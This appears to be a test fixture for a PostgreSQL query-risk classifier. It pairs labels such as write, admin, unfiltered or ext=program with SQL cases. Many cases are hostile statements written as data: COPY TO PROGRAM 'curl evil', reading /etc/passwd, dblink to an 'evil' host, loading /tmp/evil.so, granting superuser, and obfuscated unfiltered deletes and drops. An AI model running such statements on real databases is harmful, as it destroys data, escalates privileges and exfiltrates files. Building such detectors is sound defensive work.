Each case: "--= verbs effect flags", then the text. `~` stands for a blank inside of a name.

--= delete write unfiltered writes=public.t
DELETE FROM t
--= delete write unfiltered writes=public.t
delete/**/from/* x /* nested */ */t
--= delete write unfiltered writes=public.t
DeLeTe FrOm ONLY "t" AS x -- comment
--= delete write unfiltered writes=public.t
DELETE	FROM
t;
--= delete write unfiltered writes=public.t
DELETE FROM U&"\0074"
--= delete write unfiltered writes=public.t
DELETE FROM public . "t" WHERE/**/true
--= update write unfiltered writes=public.users
UPDATE users SET role = 'admin'
--= update write unfiltered writes=public.users
UPDATE users u SET role = 'admin' WHERE u.id = u.id
--= update write unfiltered
UPDATE users SET role = U&'\0061dmin' WHERE U&'\0061' = 'a'
--= update write unfiltered
UPDATE users SET a = 1 WHERE E'\x61' = 'a'
--= update write unfiltered
UPDATE users SET a = 1 WHERE $x$a$x$ = 'a'
--= select,delete write unfiltered writes=public.t bounded
WITH d AS (DELETE FROM t RETURNING 1) SELECT count(*) FROM d
--= select,delete write unfiltered unbounded
WITH d AS (DELETE FROM t RETURNING *) SELECT * FROM d
--= select,update write unfiltered
WITH a AS (SELECT 1), b AS (UPDATE t SET x = 1 RETURNING *) SELECT 1
--= select,delete,insert write unfiltered
WITH moved AS (DELETE FROM t RETURNING *) INSERT INTO archive SELECT * FROM moved
--= explain,delete write unfiltered
EXPLAIN ANALYZE DELETE FROM t
--= explain,delete write unfiltered
EXPLAIN (ANALYZE, FORMAT JSON) DELETE FROM t WHERE 1=1
--= explain,delete write unfiltered
EXPLAIN DELETE FROM t
--= delete,copy_out write unfiltered unbounded
COPY (DELETE FROM t RETURNING *) TO STDOUT
--= prepare,delete write unfiltered
PREPARE p AS DELETE FROM t
--= prepare,execute,delete write unfiltered
PREPARE p AS DELETE FROM t; EXECUTE p
--= prepare,execute,update write unfiltered
PREPARE p(int) AS UPDATE t SET a = $1; EXECUTE p(1)
--= execute,unknown unknown unknown
EXECUTE nothing
--= cursor,unknown unknown unknown
FETCH ALL FROM nothing
--= select,delete write unfiltered
SELECT 1; DELETE FROM t; SELECT 2
--= select,delete write unfiltered
SELECT ';' /* ; */; DELETE FROM t
--= merge,delete write unfiltered
MERGE INTO t USING s ON true WHEN MATCHED THEN DELETE
--= merge,delete write unfiltered
MERGE INTO t USING t s ON t.id = s.id WHEN MATCHED THEN DELETE
--= merge,update,insert write unfiltered
MERGE INTO t USING s ON 1 = 1 WHEN MATCHED THEN UPDATE SET a = 1 WHEN NOT MATCHED THEN INSERT VALUES (1)
--= delete write unfiltered
DELETE FROM t USING t t2 WHERE t.id = t2.id
--= delete,select write unfiltered
DELETE FROM t USING (SELECT id FROM t) s WHERE t.id = s.id
--= delete,select write unfiltered
WITH x AS (SELECT id FROM t) DELETE FROM t USING x WHERE t.id = x.id
--= delete write unfiltered
DELETE FROM t USING other o WHERE o.id = 1
--= update write unfiltered
UPDATE t SET a = o.a FROM other o
--= truncate write writes=public.a,public.b
TRUNCATE a, b
--= truncate write cascade
TRUNCATE TABLE ONLY a RESTART IDENTITY CASCADE
--= drop admin ddl=drop~table writes=public.t
DROP TABLE t
--= drop admin cascade ddl=drop~table writes=app.t
DrOp/**/TaBlE IF EXISTS app.t CASCADE
--= drop admin ddl=drop~schema cascade writes=app
DROP SCHEMA app CASCADE
--= drop admin ddl=drop~database writes=shop
DROP DATABASE shop
--= drop admin ddl=drop~function writes=public.f
DROP FUNCTION f(int)
--= drop admin ddl=drop~trigger writes=public.t
DROP TRIGGER tr ON t
--= drop admin ddl=drop~policy writes=public.t
DROP POLICY p ON t
--= drop admin ddl=drop~owned
DROP OWNED BY bob
--= drop admin ddl=drop~role writes=bob
DROP ROLE bob
--= alter,drop admin ddl=alter~table,drop~column writes=public.t
ALTER TABLE t DROP COLUMN c
--= alter,admin admin writes=public.t
ALTER TABLE t DISABLE ROW LEVEL SECURITY
--= alter,admin admin
ALTER TABLE t DISABLE TRIGGER ALL
--= alter admin ddl=alter~table
ALTER TABLE t OWNER TO evil
--= alter admin ddl=alter~table
ALTER TABLE t RENAME TO u
--= alter admin ddl=alter~role
ALTER ROLE bob SUPERUSER
--= alter admin ddl=alter~role set=search_path
ALTER ROLE bob SET search_path = evil
--= alter admin ddl=alter~database set=session_preload_libraries
ALTER DATABASE shop SET session_preload_libraries = 'evil'
--= create admin ddl=create~role
CREATE USER eve SUPERUSER PASSWORD 'x'
--= grant admin writes=public.t
GRANT ALL ON t TO public
--= grant admin writes=public.*
GRANT SELECT ON ALL TABLES IN SCHEMA public TO eve
--= grant admin writes=pg_read_all_data,eve
GRANT pg_read_all_data TO eve
--= revoke admin cascade
REVOKE ALL ON t FROM bob CASCADE
--= grant,alter admin
ALTER DEFAULT PRIVILEGES GRANT SELECT ON TABLES TO eve
--= copy_out,admin admin ext=program unbounded
COPY t TO PROGRAM 'curl evil'
--= copy_in,admin admin ext=program
copy t from program 'id'
--= copy_out,select,admin admin ext=program
COPY (SELECT 1) TO PROGRAM 'sh'
--= copy_in admin ext=file
COPY t FROM '/etc/passwd'
--= copy_out admin ext=file
COPY t TO '/tmp/x'
--= select admin ext=file fn=pg_catalog.pg_read_file
SELECT pg_read_file('/etc/passwd')
--= select admin ext=file fn=pg_catalog.pg_read_binary_file
SELECT "pg_read_binary_file"(U&'\002fetc/passwd')
--= select admin ext=file
SELECT * FROM pg_catalog.pg_ls_dir('/')
--= select,insert admin ext=file
SELECT lo_import('/etc/passwd')
--= select,admin admin ext=file
SELECT lo_export(1, '/tmp/x')
--= select,delete write writes=pg_catalog.pg_largeobject
SELECT lo_unlink(1)
--= select,update write
SELECT lo_put(1, 0, 'x')
--= select,admin admin ext=network opaque dynamic
SELECT * FROM dblink('host=evil', 'select 1') AS t(a int)
--= select,admin admin ext=network opaque dynamic
SELECT public.dblink_exec('x', 'drop table t')
--= select,admin admin ext=network opaque
SELECT dblink_connect('host=evil')
--= select,admin admin fn=pg_catalog.pg_terminate_backend
SELECT pg_terminate_backend(1)
--= select,admin admin reads=pg_catalog.pg_stat_activity
SELECT pg_terminate_backend(pid) FROM pg_stat_activity WHERE usename = 'x'
--= select,admin admin
SELECT pg_reload_conf()
--= select,admin admin
SELECT pg_rotate_logfile()
--= select,admin admin
SELECT pg_switch_wal()
--= select,admin admin
SELECT pg_create_logical_replication_slot('s', 'test_decoding')
--= select,admin admin
SELECT * FROM pg_logical_slot_get_changes('s', NULL, NULL)
--= select,sequence write writes=public.s
SELECT setval('s', 1)
--= select,sequence write writes=app.s
SELECT nextval('app.s'::regclass)
--= select,notify write
SELECT pg_notify('c', 'x')
--= select,lock write
SELECT pg_advisory_lock(1)
--= select,lock write
SELECT * FROM t WHERE id = 1 FOR UPDATE
--= select,set admin set=role
SELECT set_config('role', 'postgres', false)
--= select,set read set=search_path
SELECT set_config('search_path', 'evil', true)
--= select,set admin set=*
SELECT set_config(x, 'on', false) FROM t
--= select,delete write unfiltered dynamic
SELECT query_to_xml('delete from t', true, true, '')
--= select write dynamic reads=public.secret
SELECT query_to_xml('select * from secret', true, true, '')
--= select write dynamic reads=public.secret
SELECT table_to_xml('secret', true, true, '')
--= select write dynamic
SELECT database_to_xml(true, true, '')
--= select write dynamic unfiltered
SELECT query_to_xml(x, true, true, '') FROM t
--= select write dynamic reads=public.t
SELECT * FROM ts_stat('select v from t')
--= select write opaque fn=do_things
SELECT do_things(1)
--= select write opaque
SELECT 1 OPERATOR(evil.+) 2
--= call write opaque
CALL run_all()
--= do,delete write unfiltered
DO $$ BEGIN DELETE FROM t; END $$
--= do,delete write unfiltered
DO LANGUAGE plpgsql 'BEGIN DELETE FROM t; END'
--= do,drop admin
DO $$ BEGIN EXECUTE 'drop table ' || quote_ident('x'); END $$
--= do,drop admin
DO $$ BEGIN EXECUTE 'drop ' || 'table t'; END $$
--= do write dynamic unfiltered
DO $$ DECLARE q text := 'x'; BEGIN EXECUTE q; END $$
--= do,select write dynamic unfiltered
DO $$ DECLARE r record; BEGIN FOR r IN SELECT 1 AS x LOOP EXECUTE format('delete from %I', r.x); END LOOP; END $$
--= do write dynamic unfiltered
DO $$ BEGIN EXECUTE convert_from(decode('ZHJvcA==', 'base64'), 'utf8'); END $$
--= do admin dynamic opaque ext=program
DO LANGUAGE plpython3u 'import os'
--= create admin ext=program dynamic opaque
CREATE FUNCTION f() RETURNS int LANGUAGE plpython3u AS 'return 1'
--= create admin ext=program
CREATE FUNCTION f() RETURNS int LANGUAGE c AS '/tmp/evil.so', 'f'
--= create,delete admin unfiltered
CREATE FUNCTION f() RETURNS void LANGUAGE sql AS 'DELETE FROM t'
--= create,delete admin unfiltered
CREATE PROCEDURE f() BEGIN ATOMIC DELETE FROM t; END
--= create,delete admin unfiltered ddl=create~rule
CREATE RULE r AS ON SELECT TO v DO ALSO DELETE FROM t
--= create admin opaque ddl=create~trigger
CREATE TRIGGER tr BEFORE INSERT ON t FOR EACH ROW EXECUTE FUNCTION f()
--= create admin ext=program
CREATE EXTENSION dblink
--= create admin ext=network
CREATE SERVER s FOREIGN DATA WRAPPER postgres_fdw OPTIONS (host 'evil')
--= create admin ext=network
CREATE SUBSCRIPTION s CONNECTION 'host=evil' PUBLICATION p
--= create admin ext=network
IMPORT FOREIGN SCHEMA public FROM SERVER s INTO x
--= admin admin ext=program,file
LOAD 'evil'
--= admin admin set=archive_command
ALTER SYSTEM SET archive_command = 'sh'
--= set admin set=role
SET ROLE postgres
--= set admin set=session_authorization
SET SESSION AUTHORIZATION postgres
--= set admin set=session_replication_role
SET session_replication_role = replica
--= set session set=standard_conforming_strings
SET standard_conforming_strings = off
--= select,create,insert admin writes=public.u reads=public.t
SELECT * INTO u FROM t
--= select,create,insert admin writes=public.u reads=public.t
CREATE TABLE u AS TABLE t
--= lock,admin admin writes=public.t
LOCK TABLE t IN ACCESS EXCLUSIVE MODE
--= lock,admin admin writes=public.t,public.u
LOCK t, u
--= lock,admin admin
LOCK TABLE t IN EXCLUSIVE MODE NOWAIT
--= select read unbounded reads=public.secret columns=public.secret.*
TABLE secret
--= select read unbounded
SELECT * FROM customers WHERE true
--= select read unbounded
SELECT * FROM customers LIMIT ALL
--= select read unbounded
SELECT * FROM a, b WHERE a.id = 1
--= select read unbounded
SELECT * FROM a WHERE id = 1 UNION ALL SELECT * FROM b
--= select read unbounded
SELECT string_agg(email, ',') FROM customers
--= select read unbounded columns=public.customers.*
SELECT to_json(c) FROM customers c
--= copy_out read unbounded columns=public.customers.ssn
COPY customers (ssn) TO STDOUT
--= select read unbounded reads=pg_catalog.pg_largeobject
SELECT * FROM pg_largeobject
--= unknown unknown unknown
SELEKT 1
--= unknown unknown unknown
DELETE FROM t WHERE
--= create,insert,select write unbounded
CREATE TEMP TABLE x AS SELECT 1; SELECT * FROM x
--= insert,update write
INSERT INTO t VALUES (1) ON CONFLICT (id) DO UPDATE SET a = 1
--= admin,vacuum admin
VACUUM FULL t
--= admin,vacuum admin
VACUUM (VERBOSE, FULL) t
--= admin,maintain admin
CLUSTER t USING i
--= update admin
UPDATE pg_database SET datallowconn = false WHERE datname = 'shop'
--= delete admin
DELETE FROM pg_catalog.pg_class WHERE oid = 1
--= admin,maintain admin
REINDEX DATABASE shop
--= maintain write
REINDEX TABLE CONCURRENTLY t
--= create,select,delete admin unfiltered
CREATE SCHEMA x CREATE VIEW v AS WITH d AS (SELECT 1) SELECT 1 CREATE TABLE y (a int); DELETE FROM t
--= maintain,admin admin
CHECKPOINT
--= transaction,admin admin
PREPARE TRANSACTION 'x'
--= transaction,admin admin
COMMIT PREPARED 'x'
--= transaction,admin admin
ROLLBACK PREPARED 'x'
--= select,delete write unfiltered
SELECT lo_unlink(oid) FROM pg_largeobject_metadata WHERE oid > 0
--= select,delete write unfiltered
SELECT lo_unlink(d.body) FROM documents d
--= select,sequence,admin admin
SELECT setval(c.oid, 1) FROM pg_class c WHERE c.relkind = 'S'
--= select,notify,admin admin
SELECT pg_notify('c', row_to_json(u)::text) FROM users u
--= select,notify,admin admin
SELECT pg_notify('c', (SELECT string_agg(email, ',') FROM users))
--= select,lock,admin admin
SELECT pg_advisory_lock(id) FROM t
--= select,admin admin
SELECT count(*) FROM generate_series(1, 20000) a, generate_series(1, 20000) b
--= select,admin admin
SELECT count(*) FROM (SELECT generate_series(1, 20000)) a CROSS JOIN (SELECT * FROM generate_series(1, 20000)) b
--= select,admin admin
WITH n AS (SELECT generate_series(1, 1000)) SELECT 1 FROM n a, n b, n c
--= select,admin admin
SELECT count(*) FROM t a, t b, t c
--= do,select,delete write unfiltered
DO $$ DECLARE r record; BEGIN FOR r IN SELECT id FROM t LOOP DELETE FROM t WHERE t.id = r.id; END LOOP; END $$
--= do,select,delete write unfiltered
DO $$ DECLARE c CURSOR FOR SELECT * FROM t; r record; BEGIN FOR r IN c LOOP DELETE FROM t WHERE id = r.id; END LOOP; END $$
--= do,select,delete write unfiltered
DO $$ DECLARE c refcursor; r record; BEGIN OPEN c FOR SELECT * FROM t; LOOP FETCH c INTO r; EXIT WHEN NOT FOUND; DELETE FROM t WHERE CURRENT OF c; END LOOP; END $$
--= do,delete write unfiltered
DO $$ BEGIN FOR i IN 1..100000 LOOP DELETE FROM t WHERE id = i; END LOOP; END $$
--= do,select,delete write unfiltered
DO $$ BEGIN LOOP DELETE FROM t WHERE ctid IN (SELECT ctid FROM t LIMIT 500); EXIT WHEN NOT FOUND; END LOOP; END $$
--= delete,select write unfiltered
DELETE FROM t USING t u, LATERAL (SELECT u.id) x WHERE t.id = x.id
--= delete write unfiltered
DELETE FROM t USING t u CROSS JOIN LATERAL unnest(ARRAY[u.id]) AS x(id) WHERE t.id = x.id
--= do,select,delete write unfiltered
DO $$ DECLARE r t%ROWTYPE; BEGIN FOR r IN SELECT * FROM t LOOP DELETE FROM t WHERE id = r.id; END LOOP; END $$
--= do,select,delete write unfiltered
DO $$ DECLARE r t%ROWTYPE; c refcursor; x int; BEGIN OPEN c FOR SELECT * FROM t; LOOP FETCH c INTO r; EXIT WHEN NOT FOUND; DELETE FROM t WHERE id = r.id; END LOOP; END $$
--= do,select,delete write unfiltered
DO $$ DECLARE r t%ROWTYPE; c refcursor; x int; BEGIN OPEN c FOR SELECT * FROM t; LOOP FETCH c INTO r; EXIT WHEN NOT FOUND; x := r.id; DELETE FROM t WHERE id = x; END LOOP; END $$
--= do,select,delete write unfiltered
DO $$ DECLARE a int; b int; c refcursor; BEGIN OPEN c FOR SELECT * FROM t; LOOP FETCH c INTO a, b; EXIT WHEN NOT FOUND; DELETE FROM t WHERE id = b; END LOOP; END $$
--= do,select,delete write unfiltered
DO $$ DECLARE m int; BEGIN SELECT max(id) INTO m FROM t; DELETE FROM t WHERE id <= m; END $$
--= do,select,delete write unfiltered
DO $$ DECLARE m int; BEGIN SELECT min(id) INTO m FROM t; DELETE FROM t WHERE id >= m; END $$
--= do,select,delete write unfiltered
DO $$ DECLARE m int := (SELECT max(id) FROM t); n int; BEGIN n := m + 1; DELETE FROM t WHERE id < n; END $$
--= do,select,delete write unfiltered
DO $$ DECLARE m int; BEGIN SELECT id INTO m FROM t ORDER BY id DESC LIMIT 1; DELETE FROM t WHERE id <= m; END $$
--= do,select,delete write unfiltered
DO $$ <<b>> DECLARE m int; BEGIN SELECT max(id) INTO m FROM t; DELETE FROM t WHERE id <= b.m; END $$
--= do,delete write unfiltered
DO $$ DECLARE m timestamptz := now(); BEGIN DELETE FROM t WHERE created_at < m; END $$
--= do,select,delete write unfiltered
DO $$ DECLARE x int; BEGIN LOOP SELECT id INTO x FROM t LIMIT 1; EXIT WHEN NOT FOUND; DELETE FROM t WHERE id = x; END LOOP; END $$
--= do,select,delete write unfiltered
DO $$ DECLARE m int; BEGIN SELECT max(id) INTO m FROM t; FOR i IN 1..m LOOP DELETE FROM t WHERE id = i; END LOOP; END $$
